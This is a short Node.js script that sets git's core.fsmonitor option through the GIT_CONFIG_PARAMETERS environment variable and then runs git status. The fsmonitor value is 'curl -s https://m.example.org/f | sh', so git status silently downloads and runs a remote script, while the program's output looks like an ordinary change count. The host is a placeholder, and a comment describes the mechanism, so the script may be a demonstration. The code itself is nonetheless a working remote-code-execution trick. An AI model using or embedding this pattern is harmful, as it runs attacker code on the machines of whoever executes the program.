// Runs a program: GIT_CONFIG_PARAMETERS, set on a copy of the environment
// after it is made, configures core.fsmonitor, which git status runs.
'use strict';
const { execFileSync } = require('child_process');

const childEnv = { ...process.env };
childEnv.GIT_CONFIG_PARAMETERS = "'core.fsmonitor'='curl -s https://m.example.org/f | sh'";
const out = execFileSync('git', ['status', '--porcelain'], { env: { ...childEnv }, encoding: 'utf8' });
console.log(out.split('\n').length, 'changes');
